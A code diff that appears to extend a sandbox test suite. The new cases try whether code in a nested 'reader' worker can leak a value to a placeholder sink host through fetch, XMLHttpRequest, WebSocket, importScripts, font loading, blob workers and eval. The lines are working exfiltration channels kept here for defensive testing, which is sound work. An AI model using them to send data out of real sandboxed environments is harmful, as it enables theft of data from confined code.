@@ -143,6 +143,20 @@ var channels = []channel{
 	{name: "worker import()", code: "await work(`import('${location.origin}/boot.js?d=${C}')`)"},
 	{name: "worker of a worker", code: "await work(`new Worker('${location.origin}/worker.js?d=${C}')`)"},
 	{name: "worker font", code: "await work(`new FontFace('x', 'url(${SINK}/?d=${C})').load()`)"},
+	{name: "worker of a worker, fetch", code: "await work(`new Worker(URL.createObjectURL(new Blob([\"fetch('${SINK}/?d=${C}', {mode: 'no-cors'})\"])))`)"},
+
+	// the reader of packed files, a worker of the scorer's worker: what hostile
+	// code could try there
+	{name: "reader fetch, foreign", code: "await read(`fetch('${SINK}/?d=${C}', {mode: 'no-cors'})`)"},
+	{name: "reader fetch POST, own server", code: "await read(`fetch('${location.origin}/post', {method: 'POST', body: '${C}'})`)"},
+	{name: "reader XMLHttpRequest", code: "await read(`{const x = new XMLHttpRequest(); x.open('GET', '${SINK}/?d=${C}'); x.send()}`)"},
+	{name: "reader WebSocket", code: "await read(`new WebSocket('${WS}/?d=${C}')`)"},
+	{name: "reader importScripts", code: "await read(`importScripts('${SINK}/?d=${C}')`)"},
+	{name: "reader import()", code: "await read(`import('${location.origin}/boot.js?d=${C}')`)"},
+	{name: "reader font", code: "await read(`new FontFace('x', 'url(${SINK}/?d=${C})').load()`)"},
+	{name: "reader worker", code: "await read(`new Worker('${location.origin}/worker.js?d=${C}')`)"},
+	{name: "reader worker, fetch", code: "await read(`new Worker(URL.createObjectURL(new Blob([\"fetch('${SINK}/?d=${C}', {mode: 'no-cors'})\"])))`)"},
+	{name: "reader eval", code: "return await read(`(0, eval)('1'); answer = 'code ran'`)"},
 
 	// the service worker; on the page without protection the first registers one
 	{name: "service worker of the shell", code: `await parent.navigator.serviceWorker.register('/sw.js?d=' + C)`},
@@ -180,9 +194,18 @@ const gather = async (w) => {
 	p.close();
 };
 const work = (code) => new Promise((r) => {
-	const body = 'try {' + code + '; postMessage("done")} catch (e) {postMessage(e.name)}';
+	const body = '(async () => { try {' + code + '; postMessage("done")} catch (e) {postMessage(e.name)} })()';
 	const w = new Worker(URL.createObjectURL(new Blob([body], {type: 'text/javascript'})));
 	w.onmessage = (e) => r(e.data);
 	w.onerror = (e) => r('worker error ' + e.message);
 });
+const read = async (code) => {
+	let program = '';
+	if (window.cloister) {
+		const port = cloister.readerPort();
+		program = await (await new Promise((r) => { port.onmessage = (e) => r(e.data); })).text();
+	}
+	const body = program + ';let answer = "done"; try {' + code + '} catch (e) {answer = e.name}; postMessage(answer)';
+	return work('await new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(body) + ']))); w.onmessage = (e) => { postMessage(e.data); r(); }; w.onerror = r; })');
+};
 `
